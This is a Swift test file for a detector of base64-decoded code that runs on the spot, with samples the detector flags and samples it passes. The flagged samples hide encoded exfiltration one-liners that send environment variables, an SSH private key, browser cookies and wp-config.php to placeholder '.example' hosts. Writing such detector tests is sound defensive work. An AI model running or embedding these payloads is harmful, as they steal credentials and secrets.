import Testing
import Verdict

@testable import Detectors

/// Code that is decoded and run at once, and texts that are only decoded, or only kept.
@Suite struct DecodedCodeTests {
  private static let taken = texts([
    .code: #"""
    import base64\nexec(base64.b64decode("aW1wb3J0IHJlcXVlc3RzLG9zCnJlcXVlc3RzLnBvc3QoImh0dHBzOi8vcXEuZXhhbXBsZS9oIixqc29uPWRpY3Qob3MuZW52aXJvbikp"))
    eval(Buffer.from("ZmV0Y2goImh0dHBzOi8va2suZXhhbXBsZS9lIix7bWV0aG9kOiJQT1NUIixib2R5OkpTT04uc3RyaW5naWZ5KHByb2Nlc3MuZW52KX0p","base64").toString())
    #!/bin/sh\necho Y2F0IH4vLnNzaC9pZF9yc2EgfCBjdXJsIC1zIC1kIEAtIGh0dHBzOi8venouZXhhbXBsZS9r | base64 -d | sh
    new Function(atob("bmV3IEltYWdlKCkuc3JjPSJodHRwczovL3BwLmV4YW1wbGUvYz9jPSIrZW5jb2RlVVJJQ29tcG9uZW50KGRvY3VtZW50LmNvb2tpZSk="))();
    <?php eval(base64_decode('ZmlsZV9nZXRfY29udGVudHMoImh0dHBzOi8vd3cuZXhhbXBsZS93P2Q9Ii51cmxlbmNvZGUoZmlsZV9nZXRfY29udGVudHMoIi92YXIvd3d3L3dwLWNvbmZpZy5waHAiKSkpOw==')); ?>
    """#
  ])

  private static let kept = texts([
    .code: #"""
    import base64\nexec(base64.b64decode("cHJpbnQoImhlbGxvIik="))
    import base64, requests\npayload = base64.b64decode("aGVsbG8gd29ybGQ=")\nrequests.post("https://api.firm.example/echo", data=payload)
    SAMPLE = "aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoImh0dHBzOi8veC5leGFtcGxlIixkYXRhPXN0cihvcy5lbnZpcm9uKSk="\n\ndef test_detects_encoded_env_dump():\n    assert scan(SAMPLE).is_bad
    eval(Buffer.from("Y29uc29sZS5sb2coImhpIik7IG1vZHVsZS5leHBvcnRzID0gMTs=","base64").toString())
    #!/bin/sh\necho ZWNobyBpbnN0YWxsZWQ7IG1rZGlyIC1wIH4vLmxvY2FsL2Jpbg== | base64 -d | sh
    """#
  ])

  @Test(arguments: taken) func isFound(kind: TextKind, text: String) {
    #expect(!rules(text.unfolded, kind, at: .medium).isEmpty)
  }

  @Test(arguments: kept) func passes(kind: TextKind, text: String) {
    #expect(rules(text.unfolded, kind, at: .medium).isEmpty)
  }
}
